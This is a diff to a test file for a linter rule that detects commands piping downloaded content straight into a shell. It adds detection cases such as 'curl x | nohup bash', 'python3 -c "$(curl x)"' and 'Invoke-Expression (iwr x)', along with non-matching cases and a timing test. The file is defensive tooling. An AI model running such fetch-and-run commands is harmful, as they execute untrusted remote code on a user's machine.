@@ -19,6 +19,16 @@ describe('a command that runs what it downloads', () => {
     "execSync('curl https://x.example | sh')",
     'irm https://x.example | iex',
     'iex (iwr https://x.example)',
+    'curl x | xargs -n 1 sh -c',
+    'curl x | nohup bash',
+    'curl x | (bash)',
+    'curl x | { bash; }',
+    'curl x | "bash"',
+    'python3 -c "$(curl x)"',
+    'perl -e "$(curl x)"',
+    'Invoke-Expression (iwr x)',
+    'fetch -o - x | sh',
+    'aria2c x | sh',
   ])('is found: %j', (command) => {
     expect(lintPipedShell(`First.\n${command}\nLast.\n`, 'a.md')).toMatchObject([
       { rule: 'capsule.piped_shell', severity: 'warning', where: 'a.md:2' },
@@ -33,13 +43,17 @@ describe('a command that runs what it downloads', () => {
     'diff <(curl a) <(curl b)',
     'The shell pipes | shells.',
     'curl x | shuf | sort',
+    'curl x | xargs ls',
+    'curl x | tee run.sh',
+    '| `fetch` | node |',
+    'With python, use `curl`.',
   ])('is not %j', (command) => {
     expect(lintPipedShell(command, 'a.md')).toEqual([]);
   });
 
   it('is found in linear time, and bounded', () => {
     const cpuMs = startCpuClock();
-    for (const text of ['curl ', 'curl |', 'sh -c ', 'source ', 'iex (']) {
+    for (const text of ['curl ', 'curl |', 'sh -c ', 'source ', 'iex (', 'curl | xargs -1 ']) {
       expect(lintPipedShell(text.repeat(200_000 / text.length), 'a.md')).toEqual([]);
     }
     expect(cpuMs()).toBeLessThan(5_000);
